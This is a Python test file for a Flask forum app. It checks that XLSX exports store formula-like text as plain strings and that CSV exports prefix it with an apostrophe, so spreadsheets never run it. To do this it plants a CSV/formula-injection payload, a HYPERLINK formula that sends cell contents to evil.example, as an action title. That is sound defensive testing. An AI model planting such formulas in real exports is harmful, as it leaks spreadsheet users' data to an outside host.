"""Exports as their readers see them: XLSX read back with openpyxl, CSV with the csv module.

XLSX keeps types (dates and times are date cells with a number format, numbers are numbers) and
writes text exactly as typed, as string cells that a spreadsheet never runs as formulas. CSV has
no types: there a formula-like text gets the leading apostrophe, and the Content-Type names its
charset once.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from flask import Flask
from openpyxl import load_workbook

from forum_app.extensions import db
from forum_app.models import ActionItem, Meeting

from .conftest import sign_in
from .factories import Factory
from .test_reports import report_data

ARGS = "?from=2024-04-01&to=2024-06-30"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _plant(app: Flask, data: dict) -> int:
    """A formula-like action title and meeting venue, as someone could type them."""
    with app.app_context():
        # The action raised on 10 April (in the period, due 30 April).
        action = db.session.execute(db.select(ActionItem).where(ActionItem.due_on == date(2024, 4, 30))).scalar_one()
        action.title = FORMULA
        db.session.get(Meeting, data["m1"]).venue = "+381 11 123 @hall"
        db.session.commit()
        return action.id


def _sheet(client, what: str) -> list[dict]:
    response = client.get(f"/reports/export/{what}.xlsx{ARGS}")
    assert response.status_code == 200
    assert response.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_xlsx_keeps_text_exactly_and_never_as_a_formula(app: Flask, make: Factory) -> None:
    data = report_data(app, make)
    action_id = _plant(app, data)
    client = sign_in(app.test_client(), data["staff"])
    rows = [r for r in _sheet(client, "actions") if r["action_id"].value == action_id]
    assert rows
    for row in rows:
        title = row["title"]
        assert title.value == FORMULA and title.data_type == "s"  # no apostrophe, not a formula
    meetings = _sheet(client, "meetings")
    venue = next(r["venue"] for r in meetings if r["meeting_id"].value == data["m1"])
    assert venue.value == "+381 11 123 @hall" and venue.data_type == "s"


def test_xlsx_dates_and_numbers_are_typed(app: Flask, make: Factory) -> None:
    data = report_data(app, make)
    client = sign_in(app.test_client(), data["staff"])
    meetings = {r["meeting_id"].value: r for r in _sheet(client, "meetings")}
    m1 = meetings[data["m1"]]
    # 22:30 UTC on 31 March is 00:30 on 1 April in Sarajevo (CEST starts that day: UTC+2).
    assert m1["starts_local"].is_date and m1["starts_local"].value == datetime(2024, 4, 1, 0, 30)
    assert m1["starts_local"].number_format == "yyyy-mm-dd hh:mm"
    assert m1["time_zone"].value == "Europe/Sarajevo"
    assert m1["invitees"].data_type == "n" and m1["invitees"].value == 4
    assert m1["present"].value == 2 and m1["walk_ins"].value == 1
    actions = _sheet(client, "actions")
    due = [r["due_on"] for r in actions if r["due_on"].value is not None]
    assert due and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in due)
    assert {c.value.date() if isinstance(c.value, datetime) else c.value for c in due} >= {date(2024, 4, 30)}
    raised = [r["raised_local"] for r in actions]
    assert all(c.is_date and isinstance(c.value, datetime) for c in raised)
    # An action never closed has an empty cell, not an empty string.
    assert any(r["closed_local"].value is None for r in actions)
    assert all(isinstance(r["action_id"].value, int) for r in actions)


def test_csv_keeps_its_formula_guard_and_names_its_charset_once(app: Flask, make: Factory) -> None:
    data = report_data(app, make)
    action_id = _plant(app, data)
    client = sign_in(app.test_client(), data["staff"])
    response = client.get(f"/reports/export/actions.csv{ARGS}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    titles = {r["title"] for r in rows if r["action_id"] == str(action_id)}
    assert titles == {"'" + FORMULA}
    first = next(r for r in rows if r["due_on"])
    assert date.fromisoformat(first["due_on"]) and datetime.fromisoformat(first["raised_local"])
    meetings = client.get(f"/reports/export/meetings.csv{ARGS}")
    assert meetings.headers["Content-Type"] == "text/csv; charset=utf-8"
    venue = next(
        r["venue"]
        for r in csv.DictReader(io.StringIO(meetings.get_data(as_text=True).lstrip("\ufeff")))
        if r["meeting_id"] == str(data["m1"])
    )
    assert venue == "'+381 11 123 @hall"
    m1 = client.get(f"/reports/export/attendance.csv{ARGS}").get_data(as_text=True)
    first = next(csv.DictReader(io.StringIO(m1.lstrip("\ufeff"))))
    assert first["meeting_starts_local"] == "2024-04-01 00:30" and first["time_zone"] == "Europe/Sarajevo"
